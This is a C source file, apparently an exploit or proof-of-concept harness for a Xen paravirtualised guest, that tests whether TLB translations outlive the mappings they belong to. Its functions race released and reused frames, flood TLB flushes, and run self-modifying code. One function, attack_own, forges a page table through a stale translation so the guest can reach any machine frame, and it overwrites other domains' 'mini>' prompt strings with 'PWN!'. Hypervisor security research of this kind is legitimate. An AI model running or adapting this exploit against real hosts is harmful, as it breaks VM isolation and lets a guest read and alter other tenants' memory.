/* Translations that live longer than the mappings for which they were made. */
#include "attack.h"

static volatile u64 writes[MAX_VCPUS];

static void write_window(u32 me) {
    volatile u64 *w = (volatile u64 *)pool[8];
    while (!stop) {
        for (int i = 0; i < 512; i++) w[i] = 0xbad0000000000000ul | writes[me] << 12 | me << 1;
        writes[me]++;
    }
}
/* Maps a frame where the other vCPUs write, and waits until each of them has written. */
static int show_to_writers(u64 mfn) {
    u64 before[MAX_VCPUS], end = now() + 20000000;
    if (set_entry(pool[8], mfn << 12 | PTE_WR, UVMF_NONE)) return 0;
    for (u32 n = 1; n < vcpus_online; n++) before[n] = writes[n];
    for (u32 n = 1; n < vcpus_online; n++) while (writes[n] - before[n] < 3 && now() < end) asm volatile("pause");
    return 1;
}
static void start_writers(void) {
    expected_first = (u64)pool[8];
    expected_last = expected_first + PAGE;
    for (u32 n = 1; n < vcpus_online; n++) give_job(n, write_window);
}
static u64 fresh_frame(void) {
    static u64 list[1];
    list[0] = 0x10000;
    return reservation(XENMEM_populate_physmap, list, 1, 0) == 1 ? list[0] : 0;
}
static int give_frame(u64 mfn) {
    static u64 list[1];
    list[0] = mfn;
    return reservation(XENMEM_decrease_reservation, list, 1, 0) == 1;
}

/* The frame is unmapped without a flush, given back and taken again. Does somebody write to it meanwhile? */
static void reuse(void) {
    u64 rounds = option("rounds", 300), stale = 0, reused = 0, i;
    memory_give(64);
    u64 frame = fresh_frame(), end = now() + option("seconds", 10) * 1000000000;
    start_writers();
    for (i = 0; i < rounds && now() < end; i++) {
        if (!show_to_writers(frame)) break;
        set_entry(pool[8], 0, UVMF_NONE);
        u64 was = frame;
        if (!give_frame(frame) || !(frame = fresh_frame())) break;
        reused += frame == was;
        volatile u64 *v = map_frame(frame, 3);
        for (int look = 0; look < 4; look++) {
            for (int k = 0; k < 512; k++) if (v[k]) { stale++; break; }
            for (int k = 0; k < 200; k++) asm volatile("pause");
        }
        set_entry(v, 0, UVMF_INVLPG);
    }
    stop = 1;
    print("END rounds %u reused %u stale %u\n", i, reused, stale);
}
void attack_stale(void) { reuse(); }

/* The frame becomes a page table while others write to it. */
void attack_table(void) {
    u64 rounds = option("rounds", 300), stale = 0, pinned = 0, i;
    static u64 before[512];
    memory_give(64);
    set_entry(pool[8], 0, UVMF_TLB_FLUSH);
    u64 frame = fresh_frame(), end = now() + option("seconds", 10) * 1000000000;
    start_writers();
    for (i = 0; i < rounds && now() < end; i++) {
        if (!show_to_writers(frame)) break;
        set_entry(pool[8], 0, UVMF_NONE);
        volatile u64 *v = map_frame(frame, 3);
        for (int k = 0; k < 512; k++) v[k] = 0;
        set_entry(v, frame << 12 | PTE_RO, UVMF_INVLPG);
        if (!mmuext(MMUEXT_PIN_L1_TABLE, frame)) {
            pinned++;
            for (int k = 0; k < 512; k++) before[k] = v[k];
            for (int look = 0; look < 6; look++) {
                for (int k = 0; k < 512; k++) if (v[k] != before[k]) { stale++; break; }
                for (int k = 0; k < 200; k++) asm volatile("pause");
            }
            mmuext(MMUEXT_UNPIN_TABLE, frame);
        }
        set_entry(v, 0, UVMF_INVLPG);
    }
    stop = 1;
    print("END rounds %u pinned %u stale %u\n", i, pinned, stale);
}

/* Makes flushes as fast as it can, for a host whose clock of flushes begins near its end. */
void attack_flush(void) {
    static struct mmuext ops[512];
    for (int i = 0; i < 512; i++) ops[i].cmd = MMUEXT_TLB_FLUSH_ALL;
    u64 n = 0;
    for (u64 end = now() + option("flush_ms", 500) * 1000000; now() < end; n += 512)
        if (hypercall(HYPERVISOR_mmuext_op, (u64)ops, 512, 0, DOMID_SELF)) break;
    print("flushed %u times\n", n);
    reuse();
}

/* One vCPU, without any race: through a stale translation it writes the entries of a page table, by which it could reach all frames of the
 * machine. */
void attack_own(void) {
    u64 found = 0, all = option("frames", 65536);
    memory_give(64);
    u64 frame = fresh_frame();
    volatile u64 *forged = (volatile u64 *)pool[8];
    set_entry(forged, frame << 12 | PTE_WR, UVMF_INVLPG);
    for (int i = 0; i < 512; i++) forged[i] = 0;
    set_entry(forged, 0, UVMF_NONE);
    s64 pinned = mmuext(MMUEXT_PIN_L1_TABLE, frame);
    u64 l2 = FRAME(address_of(kernel_l3())[510]);
    s32 slot = free_slot(address_of(l2), 100, 512);
    s64 hooked = set_table(l2, slot, frame << 12 | PTE_WR | USER);
    volatile u8 *seen = (volatile u8 *)(VIRT_BASE + ((u64)slot << 21));
    print("pin %d, hook %d in slot %d\n", pinned, hooked, (s64)slot);
    /* When nothing is stale any more the writes fault, and there is nothing to be had. */
    for (u64 t = 1; t < all; t++) {
        forged[0] = t << 12 | PTE_WR | USER;
        mmuext(MMUEXT_INVLPG_LOCAL, (u64)seen);
        for (int i = 0; i < 4090; i++)
            if (seen[i] == 'm' && seen[i + 1] == 'i' && seen[i + 2] == 'n' && seen[i + 3] == 'i' && seen[i + 4] == '>' && !seen[i + 6]) {
                found++;
                seen[i] = 'P'; seen[i + 1] = 'W'; seen[i + 2] = 'N'; seen[i + 3] = '!';
            }
    }
    print("END read %u frames, changed %u\n", all, found);
}

/* New code is written at an address in the kernel, and the new code must be what runs. */
void attack_smc(void) {
    u64 wrong = 0;
    volatile u8 *p = (volatile u8 *)pool[20];
    set_entry(p, mfn_of((void *)p) << 12 | PTE_WR, UVMF_INVLPG);
    for (u32 i = 1; i <= 1000; i++) {
        p[0] = 0xb8; p[1] = i; p[2] = i >> 8; p[3] = 0; p[4] = 0; p[5] = 0xc3;
        if (((u32 (*)(void))pool[20])() != i) wrong++;
    }
    print("END wrong %u of 1000\n", wrong);
}
